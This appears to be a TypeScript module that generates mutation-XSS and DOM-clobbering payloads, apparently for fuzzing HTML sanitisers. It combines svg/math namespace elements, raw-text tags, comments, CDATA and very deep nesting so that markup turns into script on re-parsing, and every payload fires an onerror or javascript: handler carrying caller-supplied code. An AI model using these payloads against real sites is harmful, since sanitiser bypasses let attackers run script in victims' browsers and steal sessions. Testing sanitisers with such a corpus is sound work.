/**
 * Mutation: HTML that means one thing when it is parsed and another when what came of it is written and parsed again, or moved
 * into another place. Made by putting the parts of which such things consist into each other, every one into every other.
 */
const SPACES = ['svg', 'math']
/** Where HTML begins again inside of the other two, and what only looks like such a place. */
const POINTS = [
  'desc',
  'title',
  'foreignObject',
  'mtext',
  'mi',
  'mo',
  'mn',
  'ms',
  'annotation-xml',
  'annotation-xml encoding="text/html"',
  'annotation-xml encoding="application/xhtml+xml"',
  'mglyph',
  'malignmark',
  'p',
  'table'
]
/** What is in them is text in HTML and elements elsewhere, or the other way round. */
const TEXTS = [
  'style',
  'title',
  'textarea',
  'xmp',
  'noscript',
  'noembed',
  'noframes',
  'iframe',
  'script',
  'template',
  'select',
  'option'
]

const nameOf = (tag: string): string => tag.split(' ')[0] ?? tag

export function nestings(js: string): string[] {
  const bite = `<img src=x: onerror=${js}>`
  const hidden = bite.replaceAll('<', '&lt;').replaceAll('>', '&gt;')
  const made: string[] = []
  for (const space of SPACES) {
    for (const point of POINTS) {
      for (const text of TEXTS) {
        const end = `</${text}></${nameOf(point)}></${space}>`
        made.push(
          `<${space}><${point}><${text}><!--</${text}>${bite}-->${end}`,
          `<${space}><${point}><${text}><a title="</${text}>${bite}">x</a>${end}`,
          `<${space}></p><${text}><${point}><a id="</${text}>${bite}"></${point}>${end}`,
          `<form><${space}><${point}></form><form><mglyph><${text}></${space}>${bite}${end}</form>`,
          `<${space}><${point}><table><mglyph><${text}><!--</${text}><i title="--${hidden}">x</i>${end}</table>`
        )
      }
    }
  }
  return [...made, ...known(js, bite, hidden)]
}

const known = (js: string, bite: string, hidden: string): string[] => [
  `<math><mtext><table><mglyph><style><math><table id="</style>${bite}"></table></math></style></mglyph></table></mtext></math>`,
  `<svg></p><style><a id="</style>${bite}"></style></svg>`,
  `<svg><style><img title="</style>${bite}"></style></svg>`,
  `<svg><desc><svg><image><a><desc><noscript><a title="</noscript>${bite}"></a></noscript></desc></a></image></svg></desc></svg>`,
  `<select><noscript></select><script>${js}</script></noscript></select>`,
  `<noscript><p title="</noscript>${bite}"></p></noscript>`,
  `<p title="</noscript>${bite}"><noscript></p>`,
  `<listing>${hidden}</listing><xmp>${bite}</xmp><pre>${hidden}</pre>`,
  `<textarea>${hidden}</textarea><title>${hidden}</title><option>${hidden}</option>`,
  `<x/><title>${hidden}</title><style><!--</style>${bite}--></style>`,
  `<table><tr><td><svg><table><td>${bite}</td></table></svg></td></tr>${bite}</table>`,
  `<a><b><a><b><p>${bite}</a></b></p></a><font><p>${bite}</font><i><p>${bite}</i>`,
  `<form id=a><div></form><form id=b>${bite}</form></div>`,
  `<!-- --!><img src=x: onerror=${js}> --><!--><!-->${bite}<!--->-->${bite}-->`,
  `<?x ><img src=x: onerror=${js}>?><math><!--><img title="-->${hidden}"></math>`,
  `<svg><![CDATA[</svg>${bite}]]></svg><math><![CDATA[]]>${bite}]]></math>`,
  `<svg><title><![CDATA[</title>${bite}]]></title></svg>`,
  `<iframe srcdoc="${hidden}"></iframe><iframe>${bite}</iframe><noembed>${bite}</noembed>`,
  `<template><s><template><s>${bite}</s></template></s></template><template>${bite}`,
  `<svg><template>${bite}</template></svg><math><template>${bite}</template></math>`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--${hidden}">x</p></style></foreignobject></annotation-xml></svg>`,
  `<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-><img src=x: onerror=${js}>">`,
  `<math><annotation-xml encoding="text/html"><style></annotation-xml>${bite}</style></annotation-xml></math>`
]

/** Deeper than a parser goes, which then puts things side by side that stood inside each other. */
export function flattened(js: string): string[] {
  const bite = `<img src=x: onerror=${js}>`
  return [255, 505, 510, 515].flatMap((depth) => [
    `${'<div>'.repeat(depth)}<svg><style><a title="</style>${bite}"></a></style></svg>${'</div>'.repeat(depth)}`,
    `${'<b>'.repeat(depth)}<table><math><mtext><table><mglyph><style><!--</style>${bite}${'</b>'.repeat(depth)}`
  ])
}

/** What would stand in for parts of the document, of the page around it, or of a sanitiser at work. */
export function clobberings(js: string): string[] {
  const names =
    'attributes body childNodes children cloneNode content contentDocument cookie createElement createNodeIterator defaultView document documentElement domain firstChild forms getAttribute getElementById hasAttribute head implementation importNode innerHTML insertBefore lastChild localName location namespaceURI nextSibling nodeName nodeType open ownerDocument parentElement parentNode portside querySelectorAll remove removeAttribute removeChild setAttribute tagName textContent toString trustedTypes __proto__ constructor'.split(
      ' '
    )
  return names.flatMap((name) => [
    `<form id="${name}"><input name="${name}"><input name="attributes"><input name="removeAttribute"></form><img src=x: onerror=${js}>`,
    `<a id="${name}"></a><a id="${name}" name="toString" href="javascript:${js}">x</a><img name="${name}" id=x>`,
    `<form name="${name}" onclick=${js}><output name="parentNode">x</output><img name="nodeName" src=x: onerror=${js}></form>`,
    `<iframe name="${name}" srcdoc="<script>${js}</script>"></iframe><object id="${name}" name="${name}"></object>`
  ])
}
